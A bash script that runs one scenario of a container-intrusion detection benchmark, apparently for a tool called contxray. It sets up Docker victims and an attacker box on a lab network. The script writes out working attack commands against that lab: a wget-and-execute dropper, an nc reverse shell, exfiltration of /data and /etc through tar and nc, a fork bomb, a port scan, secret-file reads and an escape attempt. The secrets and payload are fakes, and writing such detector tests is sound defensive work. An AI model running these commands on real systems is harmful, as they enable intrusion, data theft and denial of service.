#!/usr/bin/env bash
# One run of the detect scenario suite (bench/detect-scenarios.ts), under `contxray record -- …`.
# Services: cxd-s-web (busybox httpd; a host directory with secrets bind-mounted read-only at /host),
# cxd-s-client (fetches from web twice a second), cxd-s-worker (file work on a bind-mounted /data,
# fetches a job from web every 2 s; pids limit 64), and cxd-s-evil (the attacker's box: serves a
# payload, listens for a reverse shell and for exfiltration; never scored). Normal and attacked runs
# run the same scripts; ATTACK picks what the victim does at ATTACK_AT seconds. Each victim prints
# "@@attack-start" / "@@attack-end" (read back with `docker logs -t`) around its attack.
# Usage: scenario.sh WORKDIR SECONDS ATTACK ATTACK_AT  (ATTACK=none for a normal run)
# Env: CONTXRAY_IMAGE, CONTXRAY_LABEL, ESCAPE_BIN (static binary of escape.c).
# Fetches are bounded with timeout(1), never `wget -T`: busybox 1.35's `wget -T` segfaults before it
# connects (docs/containers.md), which silently turned every fetch, and the dropper's download, into
# a crash with no connect.
set -euo pipefail
work=$(cd "${1:?usage: scenario.sh WORKDIR SECONDS ATTACK ATTACK_AT}" && pwd)
seconds=${2:?seconds}
attack=${3:?attack}
at=${4:?attack_at}
image=${CONTXRAY_IMAGE:-contxray/busybox:test}
label=${CONTXRAY_LABEL:-contxray.test=1}
net=cxd-s-net
names=(cxd-s-web cxd-s-client cxd-s-worker cxd-s-evil)

mkdir -p "$work/www" "$work/host" "$work/data" "$work/tools" "$work/evil"
rm -f "$work/www/.stop"
echo "hello" >"$work/www/index.html"
echo "job 42" >"$work/www/job.txt"
echo "root:\$6\$not-a-real-hash:19000:0:99999:7:::" >"$work/host/shadow"
echo "-----BEGIN OPENSSH PRIVATE KEY----- (fake)" >"$work/host/id_rsa"
printf '#!/bin/sh\nid\nuname -a\ncat /etc/passwd >/dev/null\nls / >/dev/null\n' >"$work/evil/payload"
cp "${ESCAPE_BIN:?ESCAPE_BIN: the static escape binary}" "$work/tools/escape"
chmod 0755 "$work/tools/escape"
# served as a plain file (busybox httpd would run an executable one as a CGI script)
chmod 0644 "$work/evil/payload"
docker rm -f "${names[@]}" >/dev/null 2>&1 || true
# A fixed subnet and addresses: every run sees the same peers (else each run shows a "new peer").
docker network inspect "$net" >/dev/null 2>&1 || docker network create --label "$label" --subnet 10.231.78.0/24 "$net" >/dev/null
run() { docker run -d --label "$label" --network "$net" "$@" >/dev/null; }

run --name cxd-s-evil --ip 10.231.78.66 -v "$work/evil:/www:ro" "$image" sh -c '
  httpd -p 80 -h /www
  nc -ll -p 9000 -e /bin/cat >/dev/null 2>&1 &
  while :; do printf "id\nls /\ncat /etc/hostname\nexit\n" | nc -l -p 4444 >/dev/null 2>&1; done'
run --name cxd-s-web --ip 10.231.78.10 -v "$work/www:/www:ro" -v "$work/host:/host:ro" \
  -e SECONDS_="$seconds" -e ATTACK="$attack" -e AT="$at" "$image" sh -c '
  httpd -p 80 -h /www
  start=$(date +%s); done_=0
  # web outlives its clients: it serves until the host drops /www/.stop after they ended (docker
  # run staggers the starts by seconds on a loaded host, so a fixed extra time was not enough);
  # SECONDS + 60 bounds it
  while [ ! -e /www/.stop ] && [ $(( $(date +%s) - start )) -lt $((SECONDS_ + 60)) ]; do
    if [ "$done_" = 0 ] && [ $(( $(date +%s) - start )) -ge "$AT" ]; then
      done_=1
      case "$ATTACK" in
        secret-read) echo @@attack-start; cat /host/shadow /host/id_rsa >/dev/null; echo @@attack-end ;;
      esac
    fi
    sleep 1
  done'
sleep 1
run --name cxd-s-worker --ip 10.231.78.30 --pids-limit 64 -v "$work/data:/data" -v "$work/tools:/tools:ro" \
  -e SECONDS_="$seconds" -e ATTACK="$attack" -e AT="$at" "$image" sh -c '
  start=$(date +%s); done_=0; n=0
  while [ $(( $(date +%s) - start )) -lt "$SECONDS_" ]; do
    dd if=/dev/urandom of=/data/work.bin bs=4k count=16 2>/dev/null
    gzip -f /data/work.bin && sha256sum /data/work.bin.gz >/data/work.sum && rm -f /data/work.bin.gz
    n=$((n + 1)); [ $((n % 2)) = 0 ] && { timeout 5 wget -q -O /data/job.txt http://10.231.78.10/job.txt || true; }
    if [ "$done_" = 0 ] && [ $(( $(date +%s) - start )) -ge "$AT" ]; then
      done_=1
      echo @@attack-start
      case "$ATTACK" in
        dropper) timeout 5 wget -q -O /tmp/x http://10.231.78.66/payload; chmod +x /tmp/x; /tmp/x >/dev/null ;;
        cpu-burn) end=$(( $(date +%s) + 12 )); while [ $(date +%s) -lt $end ]; do i=0; while [ $i -lt 20000 ]; do i=$((i + 1)); done; done ;;
        escape) /tools/escape >/dev/null 2>&1; unshare -m true 2>/dev/null; mount -t tmpfs none /mnt 2>/dev/null; true ;;
        exfiltration) tar -c /data /etc 2>/dev/null | nc -w 2 10.231.78.66 9000 >/dev/null 2>&1; true ;;
        fork-bomb) sh -c "b() { b | b & }; b" >/dev/null 2>&1 & sleep 4; kill -9 -1 2>/dev/null; wait 2>/dev/null; true ;;
      esac
      echo @@attack-end
    fi
    sleep 1
  done'
run --name cxd-s-client --ip 10.231.78.20 -e SECONDS_="$seconds" -e ATTACK="$attack" -e AT="$at" "$image" sh -c '
  start=$(date +%s); done_=0
  while [ $(( $(date +%s) - start )) -lt "$SECONDS_" ]; do
    timeout 5 wget -q -O /dev/null http://10.231.78.10/index.html || true
    if [ "$done_" = 0 ] && [ $(( $(date +%s) - start )) -ge "$AT" ]; then
      done_=1
      echo @@attack-start
      case "$ATTACK" in
        reverse-shell) timeout 8 nc 10.231.78.66 4444 -e /bin/sh >/dev/null 2>&1; true ;;
        port-scan) for p in $(seq 8000 8049); do nc -w 1 10.231.78.10 "$p" </dev/null >/dev/null 2>&1 || true; done ;;
      esac
      echo @@attack-end
    fi
    sleep 0.5
  done'
# Wait for the victims' loops to end (web last), keep their marks, remove everything.
for c in cxd-s-client cxd-s-worker; do docker wait "$c" >/dev/null 2>&1 || true; done
touch "$work/www/.stop"
docker wait cxd-s-web >/dev/null 2>&1 || true
for c in cxd-s-client cxd-s-worker cxd-s-web; do docker logs -t "$c" 2>/dev/null | sed -n "s/^\([^ ]*\) @@attack-\(start\|end\)\$/$c \2 \1/p"; done >"$work/marks.txt"
docker rm -f "${names[@]}" >/dev/null 2>&1 || true
# the recording outlives the containers, as a recording of containers that exit does: their exit
# windows are lifecycle windows (src/detect/facts.ts), not the capture's edge
sleep 2
